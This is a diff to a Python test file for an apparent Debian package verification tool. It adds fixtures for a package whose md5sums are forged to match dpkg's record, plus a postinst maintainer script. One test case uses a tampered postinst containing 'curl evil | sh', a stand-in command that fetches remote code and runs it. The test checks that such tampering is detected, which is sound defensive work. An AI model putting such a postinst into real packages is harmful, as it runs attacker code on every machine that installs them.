@@ -29,6 +29,9 @@ TOOL = b"#!/bin/sh\necho tool\n"
 README = b"the tool's readme\n"
 CONF = b"colour = blue\n"
 KEY = ("tool", "1.0", "amd64")
+POSTINST = b"#!/bin/sh\nexit 0\n"
+SUMS = (f"{hashlib.md5(TOOL).hexdigest()}  usr/bin/tool\n"
+        f"{hashlib.md5(README).hexdigest()}  usr/share/doc/tool/README\n").encode()
 STATUS = """\
 Package: tool
 Status: install ok installed
@@ -47,8 +50,8 @@ def sha(data: bytes) -> str:
 def installed(root: Path) -> dict[str, obtain.Candidate]:
     """A system with the tool installed (a binary, a readme, a conffile)."""
     put(root, "var/lib/dpkg/status", STATUS.format(conf=md5(CONF)).encode())
-    put(root, "var/lib/dpkg/info/tool.md5sums",
-        f"{md5(TOOL)}  usr/bin/tool\n{md5(README)}  usr/share/doc/tool/README\n".encode())
+    put(root, "var/lib/dpkg/info/tool.md5sums", SUMS)
+    put(root, "var/lib/dpkg/info/tool.postinst", POSTINST, 0o755)
     put(root, "usr/bin/tool", TOOL, 0o755)
     put(root, "usr/share/doc/tool/README", README)
     put(root, "etc/tool.conf", b"colour = red\n")  # changed since: its own
@@ -56,12 +59,16 @@ def installed(root: Path) -> dict[str, obtain.Candidate]:
     return obtain.candidates(root, entries)
 
 
-def package(readme: bytes = README, extra: list[Member] | None = None) -> bytes:
+def package(readme: bytes = README, extra: list[Member] | None = None,
+            postinst: bytes = POSTINST) -> bytes:
     members = [Member("./usr/bin/tool", TOOL, mode=0o755),
                Member("./usr/share/doc/tool/README", readme),
                Member("./etc/tool.conf", CONF), *(extra or [])]
-    # Its own md5sums agree with its data: only dpkg's record or the lists tell it apart.
-    return make_deb(*KEY, members)
+    # Its md5sums are dpkg's, whatever its data: only the data, dpkg's record or the lists
+    # tell it apart (as a package made to pass would).
+    sums = {"usr/bin/tool": md5(TOOL), "usr/share/doc/tool/README": md5(README)}
+    return make_deb(*KEY, members, md5sums=sums,
+                    control_files=(Member("./postinst", postinst, mode=0o755),))
 
 
 def cached(root: Path, data: bytes) -> None:
@@ -113,6 +120,7 @@ def test_without_the_lists_a_cached_package_must_be_what_dpkg_installed(
     for n, (bad, why) in enumerate([
         (package(readme=b"another readme\n"), "usr/share/doc/tool/README is not the file"),
         (package(extra=[Member("./usr/bin/evil", b"evil")]), "usr/bin/evil is no file dpkg"),
+        (package(postinst=b"#!/bin/sh\ncurl evil | sh\n"), "its postinst is not dpkg's copy"),
     ]):
         cached(root, bad)
         pool = pool_of(tmp_path / str(n))
